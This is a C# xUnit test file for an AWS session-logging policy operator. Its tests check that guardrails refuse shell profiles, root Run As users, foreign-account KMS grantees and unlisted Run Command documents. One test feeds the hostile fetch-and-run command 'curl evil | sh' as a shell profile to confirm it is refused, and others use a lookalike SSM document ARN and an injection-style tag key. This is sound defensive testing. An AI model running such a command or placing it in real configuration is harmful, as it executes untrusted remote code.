using SessionAudit.Policy.Accounts;
using SessionAudit.Policy.Conditions;
using SessionAudit.Policy.Model;
using SessionAudit.Policy.Reconciliation;
using SessionAudit.Policy.Tests.Fakes;
using Xunit;

namespace SessionAudit.Policy.Tests.Reconciliation;

/// <summary>What a policy author may make the operator write is decided by the AwsAccount a cluster admin owns (or the
/// built-in defaults): refused settings are not written, and the concern's condition names the guardrail.</summary>
public sealed class GuardrailTests
{
    private const string ForeignRole = "arn:aws:iam::999988887777:role/ec2-elsewhere";

    private static Scenario BuiltIn(Func<SessionLoggingPolicySpec, SessionLoggingPolicySpec>? edit = null)
    {
        // The full spec minus its shell profile and Run Command target, so that only what a test adds is refused.
        var s = new Scenario(spec => (edit ?? (x => x))(spec with { Session = spec.Session! with { ShellProfile = null }, Alerts = spec.Alerts! with { RunCommands = null } }));
        s.Accounts = [];
        return s;
    }

    [Fact]
    public async Task Built_in_guardrails_refuse_a_shell_profile_and_nothing_of_the_document_is_written()
    {
        var s = BuiltIn(spec => spec with { Session = spec.Session! with { ShellProfile = new ShellProfileSpec { Linux = "curl evil | sh" } } });

        var result = await s.RunAsync();

        Assert.DoesNotContain(s.Aws.Calls, c => c.Contains("Document", StringComparison.Ordinal) && c.StartsWith("write:", StringComparison.Ordinal));
        Assert.Empty(s.Aws.Documents);
        var synced = s.Condition(ConditionTypes.PreferencesSynced);
        Assert.Equal(("False", "NotAllowed"), (synced.Status, synced.Reason));
        Assert.Contains("spec.guardrails.allowShellProfile", synced.Message, StringComparison.Ordinal);
        Assert.Contains("built-in guardrails", synced.Message, StringComparison.Ordinal);
        var ready = s.Condition(ConditionTypes.Ready);
        Assert.Equal(("False", "NotAllowed"), (ready.Status, ready.Reason));
        Assert.Equal("True", s.Condition(ConditionTypes.Stalled).Status);
        Assert.Contains(result.Events, e => e.Reason == "NotAllowed");
        // The other concerns still converge: a refusal holds its own concern only.
        Assert.Equal("True", s.Condition(ConditionTypes.AlertsReady).Status);
    }

    [Fact]
    public async Task An_allowing_default_AwsAccount_lets_the_shell_profile_through()
    {
        var s = BuiltIn(spec => spec with { Session = spec.Session! with { ShellProfile = new ShellProfileSpec { Linux = "exec bash -l" } } });
        s.Accounts = [new AwsAccount("platform", new AwsAccountSpec { Default = true, Guardrails = new GuardrailsSpec { AllowShellProfile = true } })];

        await s.RunAsync();

        Assert.Equal("True", s.Condition(ConditionTypes.Ready).Status);
        Assert.Contains("exec bash -l", s.Aws.DefaultContent(SessionLoggingPolicySpec.DefaultDocumentName), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("root")]
    [InlineData("Administrator")]
    [InlineData("ROOT")]
    public async Task Run_As_a_privileged_user_is_refused_unless_an_AwsAccount_lists_it(string user)
    {
        var s = BuiltIn(spec => spec with { Session = spec.Session! with { RunAs = new RunAsSpec { Enabled = true, DefaultUser = user } } });

        await s.RunAsync();

        var synced = s.Condition(ConditionTypes.PreferencesSynced);
        Assert.Equal(("False", "NotAllowed"), (synced.Status, synced.Reason));
        Assert.Contains($"runAs.defaultUser {user}", synced.Message, StringComparison.Ordinal);
        Assert.Empty(s.Aws.Documents);

        s.Accounts = [new AwsAccount("platform", new AwsAccountSpec { Default = true, Guardrails = new GuardrailsSpec { AllowedRunAsUsers = [user] } })];
        await s.RunAsync();
        Assert.Equal("True", s.Condition(ConditionTypes.PreferencesSynced).Status);
    }

    [Fact]
    public async Task An_allowedRunAsUsers_list_refuses_every_other_user()
    {
        var s = BuiltIn(spec => spec with { Session = spec.Session! with { RunAs = new RunAsSpec { Enabled = true, DefaultUser = "ssm-user" } } });
        s.Accounts = [new AwsAccount("platform", new AwsAccountSpec { Default = true, Guardrails = new GuardrailsSpec { AllowedRunAsUsers = ["auditor"] } })];

        await s.RunAsync();

        var synced = s.Condition(ConditionTypes.PreferencesSynced);
        Assert.Equal("NotAllowed", synced.Reason);
        Assert.Contains("AwsAccount platform", synced.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_grantee_of_another_account_gets_no_grant_by_default()
    {
        var s = BuiltIn(spec => spec with { InstanceRoles = [Scenario.Ec2Role, ForeignRole] });

        await s.RunAsync();

        Assert.DoesNotContain("write:CreateGrant", s.Aws.Calls);
        var grants = s.Condition(ConditionTypes.KmsGrantsReady);
        Assert.Equal(("False", "NotAllowed"), (grants.Status, grants.Reason));
        Assert.Contains(ForeignRole, grants.Message, StringComparison.Ordinal);
        Assert.DoesNotContain(Scenario.Ec2Role, grants.Message, StringComparison.Ordinal);
        Assert.Contains("read:GetCallerIdentity", s.Aws.Calls);

        s.Accounts = [new AwsAccount("platform", new AwsAccountSpec { Default = true, Guardrails = new GuardrailsSpec { AllowedGranteeAccounts = [FakeAws.Account, "999988887777"] } })];
        await s.RunAsync();
        Assert.Equal("True", s.Condition(ConditionTypes.KmsGrantsReady).Status);
        Assert.Contains(s.Aws.Grants[s.Key.Arn], g => g.GranteePrincipal == ForeignRole);
    }

    [Fact]
    public async Task A_run_command_document_is_refused_by_default_and_the_rule_is_not_written()
    {
        var s = BuiltIn(spec => spec with
        {
            Alerts = spec.Alerts! with
            {
                RunCommands = [Scenario.FullSpec().Alerts!.RunCommands![0] with { DocumentName = "arn:aws:ssm:us-east-1:999988887777:document/AWS-Lookalike" }],
            },
        });

        await s.RunAsync();

        Assert.Empty(s.Aws.Rules);
        Assert.DoesNotContain(s.Aws.Calls, c => c.StartsWith("write:PutRule", StringComparison.Ordinal) || c.StartsWith("write:PutTargets", StringComparison.Ordinal));
        var alerts = s.Condition(ConditionTypes.AlertsReady);
        Assert.Equal(("False", "NotAllowed"), (alerts.Status, alerts.Reason));
        Assert.Contains("allowedRunCommandDocuments", alerts.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("AWS-RunShellScript", null, false)]
    [InlineData("AWS-RunShellScript", "AWS-RunShellScript", true)]
    [InlineData("arn:aws:ssm:us-east-1::document/AWS-RunShellScript", "AWS-RunShellScript", true)]
    [InlineData("arn:aws:ssm:us-east-1:111122223333:document/AWS-RunShellScript", "AWS-RunShellScript", false)]
    [InlineData("AWS-RunPowerShellScript", "AWS-RunShellScript", false)]
    [InlineData("Acme-Collect", "Acme-Collect", true)]
    [InlineData("arn:aws:ssm:us-east-1::document/Acme-Collect", "Acme-Collect", false)]
    public void Run_Command_documents_need_an_AwsAccount_listing_them(string document, string? listed, bool allowed)
    {
        var spec = Scenario.FullSpec() with
        {
            Session = null,
            InstanceRoles = null,
            Alerts = Scenario.FullSpec().Alerts! with { RunCommands = [Scenario.FullSpec().Alerts!.RunCommands![0] with { DocumentName = document }] },
        };
        var binding = listed is null
            ? AccountBinding.BuiltIn
            : AccountBinding.Of(new AwsAccount("ops", new AwsAccountSpec { Guardrails = new GuardrailsSpec { AllowedRunCommandDocuments = [listed] } }), null);

        var refusals = Guardrails.Check(spec, binding, FakeAws.Account);

        Assert.Equal(!allowed, refusals.Any(r => r.ConditionType == ConditionTypes.AlertsReady));
    }

    [Fact]
    public async Task A_missing_AwsAccount_stops_the_policy_before_any_AWS_call()
    {
        var s = new Scenario(spec => spec with { AccountRef = new AccountReference { Name = "nope" } });

        var result = await s.RunAsync();

        Assert.Empty(s.Aws.Calls);
        var ready = s.Condition(ConditionTypes.Ready);
        Assert.Equal(("False", "AccountUnavailable"), (ready.Status, ready.Reason));
        Assert.Contains("AwsAccount nope", ready.Message, StringComparison.Ordinal);
        Assert.Equal(Retry.After(TimeSpan.FromMinutes(5)), result.Retry);
    }

    [Fact]
    public async Task Two_default_AwsAccounts_stop_every_policy_without_accountRef()
    {
        var s = new Scenario();
        s.Accounts = [Scenario.Permissive, Scenario.Permissive with { Name = "second" }];

        await s.RunAsync();

        Assert.Empty(s.Aws.Calls);
        Assert.Contains("platform, second are all marked default", s.Condition(ConditionTypes.Ready).Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_stored_policy_still_carrying_roleArn_is_not_acted_on()
    {
        var s = new Scenario(spec => spec with { RoleArn = "arn:aws:iam::444455556666:role/anything", ExternalId = "x1" });

        await s.RunAsync();

        Assert.Empty(s.Aws.Calls);
        Assert.Empty(s.Aws.Scopes);
        var ready = s.Condition(ConditionTypes.Ready);
        Assert.Equal("InvalidSpec", ready.Reason);
        Assert.Contains("spec.roleArn: is no longer accepted", ready.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Two_AwsAccounts_naming_roles_of_one_account_conflict_on_its_document()
    {
        var s = new Scenario(spec => spec with { AccountRef = new AccountReference { Name = "b" } });
        s.Accounts =
        [
            new AwsAccount("a", new AwsAccountSpec { RoleArn = "arn:aws:iam::444455556666:role/one", Guardrails = Scenario.Permissive.Spec.Guardrails }),
            new AwsAccount("b", new AwsAccountSpec { RoleArn = "arn:aws:iam::444455556666:role/two", Guardrails = Scenario.Permissive.Spec.Guardrails }),
        ];
        var older = new SessionLoggingPolicy(s.Policy.Metadata with { Name = "older", CreationTimestamp = s.Policy.Metadata.CreationTimestamp.AddDays(-1) },
            s.Spec with { AccountRef = new AccountReference { Name = "a" } });

        await s.RunAsync(others: [older]);

        Assert.Equal("Conflict", s.Condition(ConditionTypes.Ready).Reason);
        Assert.Contains("444455556666", s.Condition(ConditionTypes.Ready).Message, StringComparison.Ordinal);
        Assert.Empty(s.Aws.Calls);
    }

    [Fact]
    public void Session_names_fit_STS_and_tell_policies_apart()
    {
        var longName = new string('a', 200) + ".example";
        var names = new[] { "prod", longName, longName + "2", "a.b-c" }.Select(AccountBinding.SessionName).ToList();

        Assert.All(names, n => Assert.Matches("^sa-[\\w+=,.@-]{1,52}-[0-9a-f]{8}$", n));
        Assert.All(names, n => Assert.InRange(n.Length, 2, 64));
        Assert.Equal(names.Count, names.Distinct().Count());
        Assert.Equal("sa-prod-", names[0][..8]);
    }

    [Fact]
    public async Task Deletion_removes_what_the_policy_made_even_when_a_guardrail_now_refuses_its_spec()
    {
        var s = new Scenario(spec => spec with { DeletionPolicy = DeletionPolicy.Delete });
        await s.RunAsync();
        Assert.NotEmpty(s.Aws.Rules);

        s.Accounts = [];
        s.Policy = s.Policy with { Metadata = s.Policy.Metadata with { DeletionRequested = true } };
        var result = await s.RunAsync();

        Assert.Equal(PolicyOutcome.Deleted, result.Outcome);
        Assert.Empty(s.Aws.Rules);
    }

    [Theory]
    [InlineData("default-with-role")]
    [InlineData("both-external-ids")]
    [InlineData("bad-tag")]
    [InlineData("duplicate-tag")]
    [InlineData("bad-role")]
    public async Task An_AwsAccount_its_CRD_would_refuse_is_not_used(string broken)
    {
        const string Role = "arn:aws:iam::444455556666:role/audit";
        var spec = broken switch
        {
            "default-with-role" => new AwsAccountSpec { Default = true, RoleArn = Role },
            "both-external-ids" => new AwsAccountSpec { RoleArn = Role, ExternalId = "abc12", ExternalIdSecretRef = new SecretKeySelector { Name = "s", Key = "k" } },
            "bad-tag" => new AwsAccountSpec { RoleArn = Role, SessionTags = [new SessionTagSpec { Key = "team;drop", Value = "x" }] },
            "duplicate-tag" => new AwsAccountSpec { RoleArn = Role, SessionTags = [new SessionTagSpec { Key = "Team", Value = "a" }, new SessionTagSpec { Key = "team", Value = "b" }] },
            _ => new AwsAccountSpec { RoleArn = "arn:aws:iam::4444:role/short" },
        };
        var s = new Scenario(p => p with { AccountRef = new AccountReference { Name = "broken" } });
        s.Accounts = [new AwsAccount("broken", spec)];

        await s.RunAsync();

        Assert.Empty(s.Aws.Calls);
        var ready = s.Condition(ConditionTypes.Ready);
        Assert.Equal("AccountUnavailable", ready.Reason);
        Assert.Contains("AwsAccount broken is invalid: spec.", ready.Message, StringComparison.Ordinal);
    }
}
